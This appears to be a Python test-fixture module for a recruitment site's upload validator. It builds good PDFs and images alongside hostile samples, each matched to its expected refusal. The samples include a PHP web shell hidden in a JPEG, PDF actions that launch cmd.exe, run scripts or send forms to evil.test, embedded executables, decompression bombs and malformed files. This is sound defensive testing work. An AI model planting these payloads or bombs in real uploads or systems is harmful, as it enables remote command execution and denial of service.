"""Files that people send: three good ones, and hostile ones with the answer that each must get."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, PngImagePlugin

from recruitment.documents.scanning import EICAR
from recruitment.documents.states import Refusal

PHP = b"<?php system($_GET['c']); ?>"
BODY_OF_PAGE = b"BT /F1 24 Tf 72 720 Td (Certificate) Tj ET"


@dataclass(frozen=True)
class Hostile:
    """A file, the name and type it claims, and why it is refused."""

    label: str
    make: Callable[[], bytes]
    refusal: Refusal
    name: str = "certificate.pdf"
    declared: str = "application/pdf"


# --- Good files ---------------------------------------------------------------------------------------------------


def saved(pdf: pikepdf.Pdf, **options) -> bytes:
    written = io.BytesIO()
    pdf.save(written, **options)
    return written.getvalue()


def new_pdf(pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for _page in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
        pdf.pages[-1].obj.Resources = Dictionary(Font=Dictionary(F1=font))
        pdf.pages[-1].obj.Contents = pdf.make_stream(BODY_OF_PAGE)
    return pdf


@cache
def good_pdf() -> bytes:
    """With an author, an XMP packet and a place to open at, as word processors write it."""
    pdf = new_pdf(2)
    pdf.docinfo["/Author"] = "Secret Author"
    with pdf.open_metadata() as metadata:
        metadata["dc:creator"] = ["Secret Author"]
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
    return saved(pdf)


@cache
def good_jpeg() -> bytes:
    """With the place where it was taken, held sideways."""
    picture, exif = photograph(), Image.Exif()
    exif[0x0112] = 6
    exif[0x8825] = {1: "N", 2: (31.0, 13.0, 49.0)}
    written = io.BytesIO()
    picture.save(written, "JPEG", exif=exif, comment=b"Secret Author")
    return written.getvalue()


@cache
def good_png() -> bytes:
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Author", "Secret Author")
    written = io.BytesIO()
    photograph().convert("RGBA").save(written, "PNG", pnginfo=notes)
    return written.getvalue()


def photograph() -> Image.Image:
    return Image.radial_gradient("L").resize((320, 200)).convert("RGB")


GOOD = {"diploma.pdf": good_pdf, "photo.JPG": good_jpeg, "scan.png": good_png}


# --- PDFs that act, hide or swell ----------------------------------------------------------------------------------


def with_root(**entries) -> bytes:
    pdf = new_pdf()
    for key, value in entries.items():
        pdf.Root[f"/{key}"] = value
    return saved(pdf)


def action(kind: str, **entries) -> Dictionary:
    return Dictionary(S=Name(f"/{kind}"), **entries)


def script() -> Dictionary:
    return action("JavaScript", JS=String("app.alert(1)"))


def script_in_object_stream() -> bytes:
    pdf = new_pdf()
    pdf.Root.Names = pdf.make_indirect(Dictionary(JavaScript=pdf.make_indirect(Dictionary(Names=Array([String("a"), script()])))))
    return saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def script_at_a_field() -> bytes:
    pdf = new_pdf()
    widget = Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=Array([0, 0, 1, 1]), AA=Dictionary(K=script()))
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(widget)])
    pdf.Root.AcroForm = Dictionary(Fields=pdf.pages[0].obj.Annots)
    return saved(pdf)


def link(to: Dictionary) -> bytes:
    pdf = new_pdf()
    pdf.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=to)])
    return saved(pdf)


def with_attachment() -> bytes:
    pdf = new_pdf()
    pdf.attachments["invoice.exe"] = b"MZ"
    return saved(pdf)


def with_paper_clip() -> bytes:
    pdf = new_pdf()
    file = pdf.make_stream(b"MZ", Type=Name.EmbeddedFile)
    clip = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=Dictionary(EF=Dictionary(F=file)))
    pdf.pages[0].obj.Annots = Array([clip])
    return saved(pdf)


def dynamic_form() -> bytes:
    pdf = new_pdf()
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    return saved(pdf)


def encrypted(user: str) -> bytes:
    return saved(new_pdf(), encryption=pikepdf.Encryption(owner="owner", user=user))


@cache
def deflated(size: int) -> bytes:
    packer, piece = zlib.compressobj(9), bytes(2**20)
    return b"".join(packer.compress(piece) for _ in range(size // 2**20)) + packer.flush()


def bomb(raw: bytes, filters, **entries) -> bytes:
    pdf = new_pdf()
    stream = pdf.make_stream(b"")
    stream.write(raw, filter=filters)
    for key, value in entries.items():
        stream[f"/{key}"] = value
    pdf.pages[0].obj.Resources.XObject = Dictionary(X=stream)
    return saved(pdf, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def by_hand(objects: list[str]) -> bytes:
    """A PDF of these objects, the first of which is the catalogue."""
    written, places = bytearray(b"%PDF-1.4\n"), []
    for number, told in enumerate(objects, start=1):
        places.append(len(written))
        written += f"{number} 0 obj\n{told}\nendobj\n".encode()
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    size = len(objects) + 1
    end = f"trailer\n<</Size {size}/Root 1 0 R>>\nstartxref\n{len(written)}\n%%EOF\n"
    return bytes(written) + f"xref\n0 {size}\n0000000000 65535 f \n{table}{end}".encode()


def many_pages(count: int) -> bytes:
    kids = " ".join(f"{number + 3} 0 R" for number in range(count))
    page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"
    return by_hand(["<</Type/Catalog/Pages 2 0 R>>", f"<</Type/Pages/Count {count}/Kids[{kids}]>>", *([page] * count)])


def many_objects(count: int) -> bytes:
    page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"
    return by_hand(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Count 1/Kids[3 0 R]>>", page, *(["<</N 1>>"] * count)])


def signed() -> bytes:
    """With a signature field; that the signature proves anything is not for the look inside to say."""
    pdf = new_pdf()
    pdf.docinfo["/Author"] = "Issuing Office"
    signature = Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), ByteRange=Array([0, 10, 20, 10]), Contents=String("signature"))
    field = pdf.make_indirect(Dictionary(FT=Name.Sig, T=String("Signature1"), V=pdf.make_indirect(signature)))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3)
    return saved(pdf)


def without_pages() -> bytes:
    return saved(pikepdf.new())


def pages_in_a_circle() -> bytes:
    pdf = new_pdf()
    pdf.Root.Pages.Kids = Array([pdf.Root.Pages])
    return saved(pdf)


def nested() -> bytes:
    return good_pdf().replace(b"/Fit", b"[" * 20_000 + b"]" * 20_000)


# --- Pictures and others -------------------------------------------------------------------------------------------


def php_in_jpeg() -> bytes:
    written = io.BytesIO()
    photograph().save(written, "JPEG", comment=PHP)
    return written.getvalue() + PHP


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def vast_png(width: int = 60_000, height: int = 60_000) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", deflated(2**20)) + chunk(b"IEND", b"")


def swollen_note_png() -> bytes:
    note = chunk(b"zTXt", b"a\0\0" + deflated(200 * 2**20))
    return good_png()[:33] + note + good_png()[33:]


def zipped() -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        archive.writestr("certificate.pdf", good_pdf())
    return written.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(1)</script>"

ACTIVE, EMBEDDED, COMPLEX, DAMAGED = Refusal.ACTIVE, Refusal.EMBEDDED, Refusal.TOO_COMPLEX, Refusal.DAMAGED

HOSTILE = [
    Hostile("PDF with HTML behind its end", lambda: good_pdf() + HTML, Refusal.APPENDED),
    Hostile("HTML before the PDF", lambda: HTML + good_pdf(), Refusal.KIND),
    Hostile("cut PDF", lambda: good_pdf()[:-200], DAMAGED),
    Hostile("PDF of which only the head is left", lambda: b"%PDF-1.7\n", DAMAGED),
    Hostile("PDF with a wrong table of contents", lambda: good_pdf().replace(b"startxref\n", b"startxref\n9"), DAMAGED),
    Hostile("PDF without pages", without_pages, DAMAGED),
    Hostile("PDF whose pages go in a circle", pages_in_a_circle, DAMAGED),
    Hostile("PDF nested 20,000 deep", nested, DAMAGED),
    Hostile("PDF that opens with a script", lambda: with_root(OpenAction=script()), ACTIVE),
    Hostile("PDF that starts a program", lambda: with_root(OpenAction=action("Launch", F=String("cmd.exe"))), ACTIVE),
    Hostile("PDF that opens with an address", lambda: with_root(OpenAction=action("URI", URI=String("https://evil.test"))), ACTIVE),
    Hostile("PDF with a script in an object stream", script_in_object_stream, ACTIVE),
    Hostile("PDF with a script at a field", script_at_a_field, ACTIVE),
    Hostile("PDF that sends a form", lambda: link(action("SubmitForm", F=String("https://evil.test"))), ACTIVE),
    Hostile("PDF that reaches for another file", lambda: link(action("GoToR", F=String(r"\\evil.test\x"))), ACTIVE),
    Hostile("PDF with a file inside", with_attachment, EMBEDDED),
    Hostile("PDF with a paper clip", with_paper_clip, EMBEDDED),
    Hostile("dynamic form", dynamic_form, Refusal.DYNAMIC),
    Hostile("PDF with a password", lambda: encrypted("secret"), Refusal.LOCKED),
    Hostile("PDF with limits on its use", lambda: encrypted(""), Refusal.LOCKED),
    Hostile("200 MB in a stream", lambda: bomb(deflated(200 * 2**20), Name.FlateDecode), COMPLEX),
    Hostile(
        "200 MB packed twice", lambda: bomb(zlib.compress(deflated(200 * 2**20)), Array([Name.FlateDecode, Name.FlateDecode])), COMPLEX
    ),
    Hostile(
        "PDF with a picture of 3.6 billion pixels",
        lambda: bomb(b"", Name.DCTDecode, Subtype=Name.Image, Width=60_000, Height=60_000),
        COMPLEX,
    ),
    Hostile("3,000 pages", lambda: many_pages(3000), Refusal.TOO_MANY_PAGES),
    Hostile("100,000 objects", lambda: many_objects(100_000), COMPLEX),
    Hostile("zip under a PDF's name", zipped, Refusal.KIND),
    Hostile("program under a PDF's name", lambda: b"MZ\x90\x00" + bytes(500), Refusal.KIND),
    Hostile("test virus as it is", lambda: EICAR + b"$H+H*", Refusal.KIND),
    Hostile("SVG under a picture's name", lambda: SVG, Refusal.KIND, "photo.jpg", "image/jpeg"),
    Hostile("HTML under a picture's name", lambda: HTML, Refusal.KIND, "photo.png", "image/png"),
    Hostile("picture under a PDF's name", good_jpeg, Refusal.MISMATCH),
    Hostile("PDF under a picture's name", good_pdf, Refusal.MISMATCH, "photo.jpg", "image/jpeg"),
    Hostile("picture under a script's name", php_in_jpeg, Refusal.MISMATCH, "shell.php", "image/jpeg"),
    Hostile("PDF declared as a page", good_pdf, Refusal.MISMATCH, "certificate.pdf", "text/html"),
    Hostile("cut JPEG", lambda: good_jpeg()[:-2000], DAMAGED, "photo.jpg", "image/jpeg"),
    Hostile("cut PNG", lambda: good_png()[:-500], DAMAGED, "photo.png", "image/png"),
    Hostile("PNG of 60,000 x 60,000", vast_png, Refusal.TOO_MANY_PIXELS, "photo.png", "image/png"),
    Hostile("PNG with a note of 200 MB", swollen_note_png, DAMAGED, "photo.png", "image/png"),
    Hostile("nothing", lambda: b"", Refusal.EMPTY),
    Hostile("too much", lambda: good_pdf() + random.Random(1).randbytes(10 * 2**20), Refusal.TOO_LARGE),
]
